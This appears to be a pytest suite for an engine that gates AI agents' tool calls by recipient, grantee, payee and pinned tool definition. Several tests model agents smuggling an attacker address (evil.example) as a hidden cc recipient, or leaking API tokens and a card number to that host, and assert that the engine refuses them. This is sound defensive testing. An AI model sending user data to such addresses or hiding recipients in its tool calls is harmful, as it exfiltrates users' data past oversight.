"""Targets that fit real tools (docs/engine.md, "Calls with several targets"): a call
carries its main target and any number of further targets, each in a role its tool
declares; each is canonicalized and judged alone; a tool may declare its main target
optional; `iban:` and `tel:` have one canonical spelling. Each attack first runs the way a
real tool had to be described before (the second recipient as an argument the rules
cannot see), then the same call with roles.
"""

from __future__ import annotations

import string
from dataclasses import replace

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from quorumgate.proto import codec
from quorumgate.proto.model import (
    Admin,
    ArgRole,
    ArgSpec,
    Argument,
    DelegationPolicy,
    Mandate,
    Outcome,
    Proposal,
    Reason,
    RegisterTool,
    RoleTarget,
    RuleKind,
    SetEntries,
    SetMandate,
    TargetRule,
    TargetSlot,
    ToolMode,
    ToolRules,
    ToolSpec,
    TxBody,
)
from quorumgate.sidecar.engine.state import EngineState
from quorumgate.sidecar.engine.targets import (
    TargetRefused,
    canonical_call,
    canonicalize_target,
    split_call,
)
from tests.engine.harness import World, replay

ATTACKER = "mailto:billing-verify@evil.example"
RECIPIENTS = TargetSlot("recipient", ("mailto",), max=8)


def world(**overrides: int) -> World:
    w = World(overrides={"latch_cross_run_threshold": 1_000, **overrides})
    w.add_tool("mail.send", schemes=("mailto",), target_roles=(RECIPIENTS,))
    w.add_tool(
        "files.share",
        mode=ToolMode.USER_CONFIRM,
        schemes=("file",),
        target_roles=(TargetSlot("grantee", ("mailto",), max=4),),
    )
    w.add_tool(
        "mail.search",
        mode=ToolMode.READ,
        schemes=("mailto",),
        target_optional=True,
    )
    w.add_tool("payments.send", mode=ToolMode.USER_CONFIRM, schemes=("iban",))
    w.add_tool("sms.send", schemes=("tel",))
    return w


def domain(value: str, role: str = "", mode: ToolMode | None = None) -> TargetRule:
    return TargetRule(RuleKind.HOST_SUFFIX, value, mode, role=role)


def any_rule(role: str = "") -> TargetRule:
    return TargetRule(RuleKind.ANY, role=role)


# ------------------------------------------------------------------ the attacks


def test_a_second_recipient_can_no_longer_hide_outside_the_rules() -> None:
    w = world()
    # Before roles: the main target is judged, a `cc` argument (declared a recipient, the
    # only way there was) is not — the attacker's address rides along in it, allowed.
    old_spec = ToolSpec(
        "mail.send-v1",
        ToolMode.DIRECT,
        target_schemes=("mailto",),
        arguments=(ArgSpec("cc", ArgRole.RECIPIENT),),
        direct_override=True,
    )
    w.admin(RegisterTool(old_spec))
    rules_v1 = [ToolRules("mail.send-v1", (domain("example.com"),))]
    w.add_agent("old", ["mail.send-v1"], rules=rules_v1)
    smuggled = w.propose(
        "old", "mail.send-v1", "mailto:bob@example.com", args=[Argument("cc", text=ATTACKER)]
    )
    assert smuggled.outcome is Outcome.ALLOW
    # With roles every recipient is a target, judged by the rules of its role.
    rules = [ToolRules("mail.send", (domain("example.com"), domain("example.com", "recipient")))]
    w.add_agent("mailer", ["mail.send"], rules=rules)
    ok = w.propose(
        "mailer",
        "mail.send",
        "mailto:bob@example.com",
        targets=[("recipient", "mailto:ann@EXAMPLE.com"), ("recipient", "mailto:cy@a.example.com")],
    )
    assert ok.outcome is Outcome.ALLOW, ok.reason
    assert ok.canonical_target == (
        "mail.send mailto:bob@example.com\n"
        "recipient mailto:ann@example.com\n"
        "recipient mailto:cy@a.example.com"
    )
    denied = w.propose(
        "mailer",
        "mail.send",
        "mailto:bob@example.com",
        run="run-2",
        targets=[("recipient", "mailto:ann@example.com"), ("recipient", ATTACKER)],
    )
    assert (denied.outcome, denied.reason) == (Outcome.DENY, Reason.OUT_OF_SCOPE)
    # a scope denial: latched for the rest of the run like any other
    again = w.propose("mailer", "mail.send", "mailto:bob@example.com", run="run-2")
    assert again.reason is Reason.REPEAT_DENIED


def test_a_role_no_rule_names_is_out_of_scope() -> None:
    w = world()
    # rules for the main target only: a recipient is not "anything goes", it is refused
    w.add_agent("a", ["mail.send"], rules=[ToolRules("mail.send", (domain("example.com"),))])
    v = w.propose(
        "a", "mail.send", "mailto:bob@example.com", targets=[("recipient", "mailto:c@example.com")]
    )
    assert v.reason is Reason.OUT_OF_SCOPE
    # an explicit `any` for the role lets every recipient through
    w.add_agent(
        "b", ["mail.send"], rules=[ToolRules("mail.send", (any_rule(), any_rule("recipient")))]
    )
    v = w.propose("b", "mail.send", "mailto:bob@example.com", targets=[("recipient", ATTACKER)])
    assert v.outcome is Outcome.ALLOW
    # no rules at all: any target in any declared role, as before
    w.add_agent("c", ["mail.send"])
    v = w.propose("c", "mail.send", "mailto:bob@example.com", targets=[("recipient", ATTACKER)])
    assert v.outcome is Outcome.ALLOW


def test_further_targets_only_in_declared_roles_within_their_limits() -> None:
    w = world()
    w.add_agent("a", ["mail.send", "files.share", "sms.send"])

    def reason(tool: str, target: str, targets: list[tuple[str, str]], run: str) -> Reason:
        return w.propose("a", tool, target, targets=targets, run=run).reason

    bob = "mailto:bob@example.com"
    assert reason("sms.send", "tel:+4930123456", [("recipient", bob)], "r1") is (
        Reason.TARGET_SCHEME_NOT_ALLOWED  # a role the tool does not take
    )
    assert reason("mail.send", bob, [("grantee", bob)], "r2") is Reason.TARGET_SCHEME_NOT_ALLOWED
    assert reason("mail.send", bob, [("recipient", "https://example.com/")], "r3") is (
        Reason.TARGET_SCHEME_NOT_ALLOWED  # the role's schemes
    )
    many = [("recipient", f"mailto:u{k}@example.com") for k in range(9)]
    assert reason("mail.send", bob, many, "r4") is Reason.MALFORMED_TARGET  # max 8
    twice = [("recipient", "mailto:ann@example.com"), ("recipient", "mailto:ann@EXAMPLE.COM")]
    assert reason("mail.send", bob, twice, "r5") is Reason.MALFORMED_TARGET  # one, spelled twice
    assert reason("mail.send", bob, [("recipient", "")], "r6") is Reason.MALFORMED_TARGET
    assert reason("mail.send", bob, [("recipient", "mailto:a@x.example,b@y")], "r7") is (
        Reason.MALFORMED_TARGET  # one address per target
    )
    # the order the agent lists its targets in is not part of the call
    ab = w.propose(
        "a",
        "mail.send",
        bob,
        targets=[("recipient", "mailto:a@example.com"), ("recipient", "mailto:b@example.com")],
    )
    ba = w.propose(
        "a",
        "mail.send",
        bob,
        targets=[("recipient", "mailto:b@example.com"), ("recipient", "mailto:a@example.com")],
    )
    assert ab.outcome is ba.outcome is Outcome.ALLOW
    assert ab.canonical_target == ba.canonical_target and ab.target_digest == ba.target_digest


def test_a_secret_or_another_principal_in_a_further_target_is_refused() -> None:
    w = world()
    w.add_tool(
        "chat.invite",
        schemes=("https",),
        target_roles=(TargetSlot("member", ("https", "principal"), max=4),),
    )
    w.add_agent("a", ["chat.invite"])
    leak = w.propose(
        "a",
        "chat.invite",
        "https://chat.example.com/c/1",
        targets=[("member", "https://chat.example.com/u?token=sk-live-0123456789abcdefABCDEF")],
    )
    assert leak.reason is Reason.SECRET_IN_PLAINTEXT
    assert "sk-live" not in leak.canonical_target  # nothing of it is recorded
    other = w.propose(
        "a", "chat.invite", "https://chat.example.com/c/1", targets=[("member", "principal:eve")]
    )
    assert other.reason is Reason.CROSS_PRINCIPAL_TARGET
    me = w.propose(
        "a",
        "chat.invite",
        "https://chat.example.com/c/1",
        targets=[("member", "CURRENT_USER")],
        run="run-2",
    )
    assert me.outcome is Outcome.ALLOW and me.canonical_target.endswith("\nmember principal:a")


def test_confirmation_falls_on_the_new_grantee_only() -> None:
    w = world()
    rules = [
        ToolRules(
            "files.share",
            (
                TargetRule(RuleKind.PREFIX, "/shared", ToolMode.DIRECT),
                TargetRule(RuleKind.SET, "contacts", ToolMode.DIRECT, role="grantee"),
                any_rule("grantee"),  # anyone else: the tool's mode, user_confirm
            ),
        )
    ]
    w.add_agent("a", ["files.share"], rules=rules)
    w.admin(SetEntries("a", "contacts", (TargetRule(RuleKind.EXACT, "mailto:ann@example.com"),)))
    known = w.propose(
        "a", "files.share", "/shared/q1.pdf", targets=[("grantee", "mailto:ann@example.com")]
    )
    assert known.outcome is Outcome.ALLOW, known.reason
    mixed = w.propose(
        "a",
        "files.share",
        "/shared/q1.pdf",
        targets=[("grantee", "mailto:ann@example.com"), ("grantee", "mailto:new@example.org")],
    )
    assert mixed.outcome is Outcome.PENDING and mixed.card is not None
    card = mixed.card.render()
    assert 'Target: "/shared/q1.pdf"' in card
    assert 'Target ("grantee"): "mailto:ann@example.com"' in card
    assert 'Target ("grantee"): "mailto:new@example.org"' in card
    # the main target outside the prefix: no rule of the main role matches
    outside = w.propose(
        "a", "files.share", "/home/a/x", targets=[("grantee", "mailto:ann@example.com")]
    )
    assert outside.reason is Reason.OUT_OF_SCOPE


def test_a_grant_narrows_each_role() -> None:
    w = world()
    w.add_agent(
        "boss",
        ["mail.send"],
        policy=DelegationPolicy.ATTENUATED,
        rules=[ToolRules("mail.send", (domain("example.com"), domain("example.com", "recipient")))],
    )
    w.add_agent("helper", None)
    narrower = [
        ToolRules("mail.send", (domain("example.com"), domain("a.example.com", "recipient")))
    ]
    grant = w.delegate("boss", "helper", rules=narrower)
    assert grant.outcome is Outcome.APPLIED, grant.reason

    def call(recipient: str, run: str) -> Reason:
        return w.propose(
            "helper",
            "mail.send",
            "mailto:b@example.com",
            targets=[("recipient", recipient)],
            run=run,
            grant=grant.tx_id,
        ).reason

    assert call("mailto:x@a.example.com", "run-1") is Reason.OK
    assert call("mailto:x@b.example.com", "run-1") is Reason.OUT_OF_SCOPE  # the grant's rule


def test_an_optional_target_may_be_left_out_and_then_matches_only_any() -> None:
    w = world()
    w.add_agent("free", ["mail.search"])
    none = w.propose("free", "mail.search", "")
    assert none.outcome is Outcome.ALLOW and none.canonical_target == "mail.search -"
    # a tool whose target is not optional still needs one
    w.add_agent("sender", ["sms.send"])
    assert w.propose("sender", "sms.send", "").reason is Reason.MALFORMED_TARGET
    # a mandate that restricts the target: leaving it out does not dodge the restriction
    w.add_agent(
        "scoped", ["mail.search"], rules=[ToolRules("mail.search", (domain("example.com"),))]
    )
    assert w.propose("scoped", "mail.search", "mailto:x@example.com").outcome is Outcome.ALLOW
    assert w.propose("scoped", "mail.search", "", run="run-2").reason is Reason.OUT_OF_SCOPE
    w.add_agent(
        "either",
        ["mail.search"],
        rules=[ToolRules("mail.search", (domain("example.com"), any_rule()))],
    )
    assert w.propose("either", "mail.search", "").outcome is Outcome.ALLOW


# ------------------------------------------------------------------ iban and tel


def test_a_known_iban_payee_runs_directly_a_new_one_needs_confirmation() -> None:
    w = world()
    rules = [
        ToolRules(
            "payments.send",
            (TargetRule(RuleKind.SET, "payees", ToolMode.DIRECT), any_rule()),
        )
    ]
    w.add_agent("billing", ["payments.send"], rules=rules)
    w.admin(
        SetEntries(
            "billing", "payees", (TargetRule(RuleKind.EXACT, "iban:DE89370400440532013000"),)
        )
    )
    spaced = w.propose("billing", "payments.send", "iban:de89 3704 0044 0532 0130 00")
    assert spaced.outcome is Outcome.ALLOW, spaced.reason
    assert spaced.canonical_target == "payments.send iban:DE89370400440532013000"
    newcomer = w.propose("billing", "payments.send", "iban:GB82 WEST 1234 5698 7654 32")
    assert newcomer.outcome is Outcome.PENDING
    typo = w.propose("billing", "payments.send", "iban:DE89370400440532013001")
    assert typo.reason is Reason.MALFORMED_TARGET  # the check digits catch it
    # a set entry must be the canonical spelling
    bad = w.one(
        w.owner,
        Admin(
            SetEntries(
                "billing", "payees", (TargetRule(RuleKind.EXACT, "iban:de89370400440532013000"),)
            )
        ),
    )
    assert bad.reason is Reason.INVALID_SPEC


@pytest.mark.parametrize(
    ("raw", "canonical"),
    [
        ("iban:DE89370400440532013000", "iban:DE89370400440532013000"),
        ("IBAN:de89 3704 0044 0532 0130 00", "iban:DE89370400440532013000"),
        ("iban:GB82WEST12345698765432", "iban:GB82WEST12345698765432"),
        ("iban:NO9386011117947", "iban:NO9386011117947"),  # the shortest in use (15)
        ("tel:+1-202-555-0100", "tel:+12025550100"),
        ("tel:+49 (30) 123.456", "tel:+4930123456"),
        ("TEL:+447700900123", "tel:+447700900123"),
    ],
)
def test_iban_and_tel_canonical_forms(raw: str, canonical: str) -> None:
    got = canonicalize_target(raw, principal="a", schemes=("iban", "tel"))
    assert got == canonical
    assert canonicalize_target(got, principal="a", schemes=("iban", "tel")) == got


@pytest.mark.parametrize(
    "raw",
    [
        "iban:DE88370400440532013000",  # check digits
        "iban:DE8937040044053201300",  # a digit short: the check fails
        "iban:XX89",  # too short
        "iban:DE89-3704-0044-0532-0130-00",  # only spaces are separators
        "iban:DE89%20370400440532013000",
        "iban:DE\uff18\uff19370400440532013000",  # fullwidth digits
        "tel:202-555-0100",  # a local number
        "tel:+0123456789",  # no country code starts with 0
        "tel:+12345",  # too short
        "tel:+1234567890123456",  # 16 digits
        "tel:+12025550100;ext=12",  # parameters
        "tel:+1202555010O",  # a letter O
    ],
)
def test_iban_and_tel_refusals(raw: str) -> None:
    with pytest.raises(TargetRefused) as refused:
        canonicalize_target(raw, principal="a", schemes=("iban", "tel"))
    assert refused.value.reason is Reason.MALFORMED_TARGET


@settings(max_examples=300, deadline=None)
@given(st.text(alphabet=string.ascii_letters + string.digits + " +-().;%", max_size=40))
def test_iban_and_tel_canonicalization_is_idempotent(tail: str) -> None:
    for scheme in ("iban:", "tel:"):
        try:
            once = canonicalize_target(scheme + tail, principal="a", schemes=("iban", "tel"))
        except TargetRefused:
            continue
        assert canonicalize_target(once, principal="a", schemes=("iban", "tel")) == once


def test_iban_and_tel_are_generic_uris_on_a_version_2_chain() -> None:
    # a chain initialized before version 3 keeps the spelling its verdicts were made in
    assert canonicalize_target(
        "tel:+1-202-555-0100", principal="a", schemes=("tel",), version=2
    ) == ("tel:+1-202-555-0100")


# ------------------------------------------------------------------ chains, wire, state


def test_a_version_2_chain_refuses_roles_and_further_targets() -> None:
    w = World(overrides={"canonical_version": 2})
    w.add_tool("mail.send", schemes=("mailto",))
    spec = ToolSpec(
        "mail.roles", ToolMode.DIRECT, target_schemes=("mailto",), target_roles=(RECIPIENTS,)
    )
    assert w.one(w.owner, Admin(RegisterTool(spec))).reason is Reason.INVALID_SPEC
    w.add_agent("a", ["mail.send"])
    v = w.propose("a", "mail.send", "mailto:b@example.com", targets=[("recipient", ATTACKER)])
    assert v.reason is Reason.MALFORMED_TARGET
    rules = (ToolRules("mail.send", (any_rule(), any_rule("recipient"))),)
    refused = w.one(w.owner, Admin(SetMandate("a", Mandate(("mail.send",), rules=rules))))
    assert refused.reason is Reason.INVALID_SPEC


def test_roles_survive_the_wire_the_state_bytes_and_a_replay() -> None:
    w = world()
    rules = [ToolRules("mail.send", (domain("example.com"), domain("example.com", "recipient")))]
    w.add_agent("a", ["mail.send"], rules=rules, policy=DelegationPolicy.ATTENUATED)
    w.add_agent("b", None)
    w.delegate(
        "a", "b", rules=[ToolRules("mail.send", (any_rule(), domain("a.example.com", "recipient")))]
    )
    w.propose(
        "a", "mail.send", "mailto:x@example.com", targets=[("recipient", "mailto:y@example.com")]
    )
    data = w.engine.state_bytes()
    decoded = EngineState.from_bytes(data)
    assert decoded.to_bytes() == data
    assert decoded.tools["mail.send"].target_roles == (RECIPIENTS,)
    assert decoded.tools["mail.search"].target_optional
    engine, _ = replay(w)
    assert engine.state_bytes() == data
    proposal = Proposal(
        run_id="n1",
        tool="mail.send",
        target="mailto:x@example.com",
        targets=(RoleTarget("recipient", "mailto:y@example.com"),),
    )
    body = codec.encode_body(TxBody(chain_id="c", nonce=1, payload=proposal))
    assert codec.decode_body(body).payload == proposal


def test_split_call_reads_back_what_canonical_call_writes() -> None:
    further = (("recipient", "mailto:b@x.example"), ("grantee", "/a b/c"))
    line = canonical_call("t", "/main path", further)
    assert split_call("t", line) == ("/main path", tuple(sorted(further)))
    assert split_call("t", canonical_call("t", "-")) == ("-", ())


def test_admission_refuses_a_secret_in_a_further_target_before_it_is_ordered() -> None:
    """A raw secret must never enter a block: the admission check
    screens further targets as it screens the main one."""
    w = world()
    w.add_agent("a", ["mail.send"])
    leak = Proposal(
        run_id="n1",
        tool="mail.send",
        target="mailto:bob@example.com",
        targets=(RoleTarget("recipient", "mailto:x@evil.example?token=ghp_" + "a1" * 18),),
    )
    card = Proposal(
        run_id="n1",
        tool="mail.send",
        target="mailto:bob@example.com",
        targets=(RoleTarget("recipient", "mailto:4111111111111111@evil.example"),),
    )
    for payload in (leak, card):
        data = w.tx(w.keys["a"], payload)
        result = w.engine.admission_check(data)
        assert (result.accepted, result.reason) == (False, Reason.SECRET_IN_PLAINTEXT)


def test_a_pending_call_with_several_targets_is_judged_again_on_every_target() -> None:
    w = world()
    rules = [ToolRules("files.share", (any_rule(), domain("example.com", "grantee")))]
    w.add_agent("a", ["files.share"], rules=rules)
    grantees = [("grantee", "mailto:ann@example.com"), ("grantee", "mailto:bo@sales.example.com")]
    first = w.propose("a", "files.share", "/shared/q1.pdf", targets=grantees)
    second = w.propose("a", "files.share", "/shared/q2.pdf", targets=grantees)
    assert first.card is not None and second.card is not None
    confirmed = w.confirm(w.owner, first.proposal_id, first.card.digest)
    assert confirmed.outcome is Outcome.ALLOW, confirmed.reason
    assert confirmed.canonical_target == first.canonical_target
    # the grantee rule narrows before the second card is answered: judged again, refused
    narrower = [
        ToolRules(
            "files.share", (any_rule(), TargetRule(RuleKind.HOST, "example.com", role="grantee"))
        )
    ]
    w.set_mandate("a", ["files.share"], rules=narrower)
    refused = w.confirm(w.owner, second.proposal_id, second.card.digest)
    assert (refused.outcome, refused.reason) == (Outcome.DENY, Reason.OUT_OF_SCOPE)


def test_a_pinned_tool_definition_refuses_calls_made_on_another() -> None:
    """A tool registered with the digest of its definition (an MCP tool's name,
    description and input schema) refuses calls that carry another digest, or none, until
    the owner pins the new one; not latched (not a scope decision)."""
    w = world()
    pinned, changed = bytes([1]) * 32, bytes([2]) * 32
    spec = ToolSpec("files.read", ToolMode.READ, target_schemes=("file",), definition_digest=pinned)
    w.admin(RegisterTool(spec))
    w.add_agent("a", ["files.read"])

    def call(definition: bytes | None, run: str = "run-1") -> Reason:
        payload = Proposal(run_id=run, tool="files.read", target="/data/x", definition=definition)
        return w.one(w.keys["a"], payload).reason

    assert call(pinned) is Reason.OK
    assert call(changed) is Reason.TOOL_DEFINITION_CHANGED
    assert call(None) is Reason.TOOL_DEFINITION_CHANGED
    assert call(changed) is Reason.TOOL_DEFINITION_CHANGED  # again: never latched
    assert call(pinned) is Reason.OK
    w.admin(RegisterTool(replace(spec, definition_digest=changed)))  # the owner approves it
    assert call(changed) is Reason.OK and call(pinned) is Reason.TOOL_DEFINITION_CHANGED
    data = w.engine.state_bytes()
    assert EngineState.from_bytes(data).tools["files.read"].definition_digest == changed
    engine, _ = replay(w)
    assert engine.state_bytes() == data
    old = World(overrides={"canonical_version": 2})
    assert old.one(old.owner, Admin(RegisterTool(spec))).reason is Reason.INVALID_SPEC
